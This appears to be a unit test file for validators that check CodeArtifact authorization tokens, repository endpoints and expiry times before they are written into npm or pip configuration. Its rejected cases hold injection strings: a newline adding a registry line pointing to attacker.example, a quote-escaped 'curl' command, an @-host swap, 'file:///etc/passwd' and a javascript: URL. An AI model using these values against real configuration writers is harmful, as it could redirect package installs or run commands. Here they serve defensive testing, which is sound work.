import { checkEndpoint, checkExpiration, checkToken } from '../../src/core/server-answers.js';

const NOW = Date.parse('2026-12-01T12:00:00Z');
const JWE = `${Buffer.from('{"ver":1,"isu":1}').toString('base64url')}.${'A'.repeat(900)}.b_c-d`;

it.each([JWE, 'abc', 'a.b~c_d-e'])('accepts a token shaped like the service sends: %s', (token) =>
  expect(() => checkToken(token)).not.toThrow(),
);

it.each([
  ['a newline', `${JWE}\nregistry=https://attacker.example/`],
  ['a carriage return', `${JWE}\r`],
  ['a control character', `${JWE}\u001b[2J`],
  ['a single quote (ends the env file value)', `${JWE}'; curl x; '`],
  ['a double quote', `${JWE}"`],
  ['an @ (changes the host in the pip URL)', `${JWE}@attacker.example`],
  ['a slash', `${JWE}/x`],
  ['a $ (npm expands ${VAR})', '${HOME}'],
  ['a space', 'a b'],
  ['nothing', ''],
  ['too much', 'a'.repeat(16_385)],
])('refuses a token with %s, without quoting it', (_what, token) => {
  expect(() => checkToken(token)).toThrow(
    /^The authorization token CodeArtifact returned cannot be written safely/,
  );
  try {
    checkToken(token);
  } catch (error) {
    if (token !== '') expect((error as Error).message).not.toContain(token);
  }
});

it.each([
  'https://acme-111122223333.d.codeartifact.us-east-1.amazonaws.com/npm/internal/',
  'https://vpce-0abc.d.codeartifact.us-east-1.vpce.amazonaws.com/pypi/d/acme-111122223333/internal/',
  'http://127.0.0.1:4873/npm/d/acme-111122223333/internal/',
  'http://localhost:1/pypi/r/',
  'http://[::1]:8080/npm/r/',
  'https://host',
])('accepts the endpoint %s', (url) => expect(() => checkEndpoint(url, 'npm')).not.toThrow());

it.each([
  ['a newline and an extra npmrc line', 'https://h.example/npm/r/\nregistry=https://attacker.example/'],
  ['a carriage return', 'https://h.example/npm/r/\r'],
  ['a tab', 'https://h.example/npm/\tr/'],
  ['a quote', "https://h.example/npm/r/'"],
  ['plain http to another host', 'http://h.example/npm/r/'],
  ['plain http to a look-alike of loopback', 'http://127.0.0.1.attacker.example/npm/r/'],
  ['another scheme', 'file:///etc/passwd'],
  ['a javascript: URL', 'javascript:alert(1)'],
  ['user info', 'https://user:pw@h.example/npm/r/'],
  ['a query', 'https://h.example/npm/r/?x=1'],
  ['a fragment', 'https://h.example/npm/r/#x'],
  ['a ${VAR} npm would expand', 'https://h.example/${HOME}/'],
  ['a percent escape', 'https://h.example/npm/%0a/'],
  ['a port out of range', 'https://h.example:99999/npm/r/'],
  ['nothing', ''],
])('refuses an endpoint with %s, showing it escaped', (_what, url) => {
  expect(() => checkEndpoint(url, 'npm')).toThrow(
    /^The npm repository endpoint CodeArtifact returned cannot be used: "/,
  );
  try {
    checkEndpoint(url, 'npm');
  } catch (error) {
    expect((error as Error).message).not.toMatch(/[\n\r\t]/);
  }
});

it.each([
  ['12 hours from now', new Date(NOW + 43_200_000)],
  ['15 minutes from now', new Date(NOW + 900_000)],
  ['not given', undefined],
])('accepts an expiration %s', (_what, when) => expect(() => checkExpiration(when, NOW)).not.toThrow());

it.each([
  ['not a time', new Date(Number.NaN)],
  ['in the past', new Date(NOW - 3_600_000)],
  ['years away', new Date(NOW + 365 * 86_400_000)],
])('refuses an expiration %s', (_what, when) =>
  expect(() => checkExpiration(when, NOW)).toThrow(
    /^The token expiration CodeArtifact returned .* is not between/,
  ),
);
